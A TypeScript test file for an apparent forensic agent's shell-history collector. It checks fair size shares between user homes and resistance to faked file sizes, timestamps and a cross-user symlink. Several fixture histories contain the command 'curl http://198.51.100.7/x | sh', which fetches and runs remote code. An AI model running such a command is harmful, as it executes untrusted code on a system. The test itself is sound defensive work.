import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chown, mkdir, symlink, truncate, utimes, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { listAll } from '../../../agent/collectors/files/list.ts';
import { fairShares } from '../../../agent/collectors/logs/shares.ts';
import { logs } from '../../../agent/collectors/logs.ts';
import type { NodeContext } from '../../../agent/context.ts';
import { hostAt } from '../../../agent/host/host.ts';
import { type Collected, collect, rowsOf } from '../../helpers/collect.ts';
import { temporaryFolder } from '../../helpers/temporary.ts';

const MIB = 1024 ** 2;

async function home(root: string, path: string, uid: number): Promise<string> {
  await mkdir(join(root, path), { recursive: true });
  await chown(join(root, path), uid, uid);
  return join(root, path);
}

function gather(root: string): Promise<Collected> {
  return collect(logs, { host: hostAt(root, { proc: '/proc', sys: '/sys' }) });
}

interface Row {
  readonly file: { readonly path: string; readonly hash?: unknown };
}

/** Paths of histories that are there as a whole, in their order. */
function wholeOf({ artefacts }: Collected): readonly string[] {
  const rows = rowsOf(artefacts.get('70-log/files.jsonl')) as unknown as Row[];
  return rows.filter(({ file }) => file.hash !== undefined).map(({ file }) => file.path);
}

function contextAt(root: string, gaps: unknown[] = []): NodeContext {
  const context: Pick<NodeContext, 'host' | 'gap' | 'signal' | 'ownFolders'> = {
    host: hostAt(root, { proc: '/proc', sys: '/sys' }),
    gap: (found) => void gaps.push(found),
    signal: new AbortController().signal,
    ownFolders: [],
  };
  return context as NodeContext;
}

test('no user displaces the history of root or of another, whatever size and time they give theirs', async (t: TestContext) => {
  const root = await temporaryFolder(t);
  const admin = await home(root, 'root', 0);
  const eve = await home(root, 'home/eve', 1001);
  const bob = await home(root, 'home/bob', 1002);
  const service = await home(root, 'home/service', 990);
  for (const folder of [admin, bob, service]) {
    await writeFile(join(folder, '.bash_history'), 'curl http://198.51.100.7/x | sh\n');
    await utimes(join(folder, '.bash_history'), 1, 1);
  }
  await utimes(join(service, '.bash_history'), 3e9, 3e9);
  for (let index = 0; index < 40; index++) {
    const path = join(eve, `.bash_history${index}`);
    if (index < 2) await writeFile(path, Buffer.alloc(16 * MIB, 'x'));
    else await writeFile(path, '');
    if (index >= 2) await truncate(path, 16 * MIB);
    await utimes(path, 4e9, 4e9);
  }
  // hers leads to his, so that his would be charged to her
  await symlink('../bob/.bash_history', join(eve, '.bash_history_of_bob'));
  const whole = wholeOf(await gather(root));
  for (const path of ['/root', '/home/service', '/home/bob']) assert.ok(whole.includes(`${path}/.bash_history`), path);
  assert.ok(whole.indexOf('/root/.bash_history') < whole.indexOf('/home/service/.bash_history'));
  assert.ok(whole.indexOf('/home/service/.bash_history') < whole.indexOf('/home/bob/.bash_history'));
});

test('what is charged is what stands on the disk: a set size does not use up a home', async (t) => {
  const root = await temporaryFolder(t);
  const ann = await home(root, 'home/ann', 1001);
  await writeFile(join(ann, '.bash_history'), 'id\n');
  await utimes(join(ann, '.bash_history'), 1, 1);
  await writeFile(join(ann, '.zsh_history'), '');
  await truncate(join(ann, '.zsh_history'), 16 * MIB);
  assert.ok(wholeOf(await gather(root)).includes('/home/ann/.bash_history'));
});

test('homes divide what there is, 16 MiB at most, and the system has half of it at most', () => {
  const found = [0, 990, 1001, 1002, 1003].map((uid) => {
    const about = {
      group: { what: 'x', paths: [], fileBytes: 1 },
      kind: 'file',
      size: 1,
      mtime: 0n,
      identity: '',
    } as const;
    return { ...about, path: Buffer.from(`${uid}`), home: { path: Buffer.from(`${uid}`), uid } };
  });
  const lefts = (bytes: number) => fairShares(found.toReversed(), bytes).map(({ share }) => (share?.left ?? 0) / MIB);
  assert.deepEqual(lefts(256 * MIB), [16, 16, 16, 16, 16]);
  assert.deepEqual(lefts(24 * MIB), [6, 6, 4, 4, 4]);
});

test("a user's many files leave the system's, and other users', listed", { timeout: 120_000 }, async (t) => {
  const root = await temporaryFolder(t);
  const eve = await home(root, 'home/eve', 1001);
  const bob = await home(root, 'home/bob', 1002);
  const many = 'import os, sys\nfor i in range(6000): os.close(os.open(f"{sys.argv[1]}/{i // 1500}/{i}", os.O_CREAT))';
  for (const name of ['0', '1', '2', '3']) await mkdir(join(eve, name));
  execFileSync('python3', ['-c', many, eve]);
  await writeFile(join(bob, 'one'), '');
  await mkdir(join(root, 'etc'));
  await writeFile(join(root, 'etc/rc.local'), '');
  const groups = [
    { what: 'home', paths: ['~/0/*', '~/1/*', '~/2/*', '~/3/*', '~/one'], fileBytes: 1 },
    { what: 'system', paths: ['/etc/rc.local'], fileBytes: 1 },
  ];
  const gaps: { reason: string; name: string }[] = [];
  const paths = (await listAll(contextAt(root, gaps), groups)).found.map(({ path }) => path.toString());
  assert.equal(paths[0], 'etc/rc.local');
  assert.ok(paths.includes('home/bob/one'));
  assert.equal(paths.filter((path) => path.startsWith('home/eve/')).length, 5000);
  assert.ok(gaps.some(({ reason, name }) => reason === 'truncated' && name === '1000 files in homes left'));
});
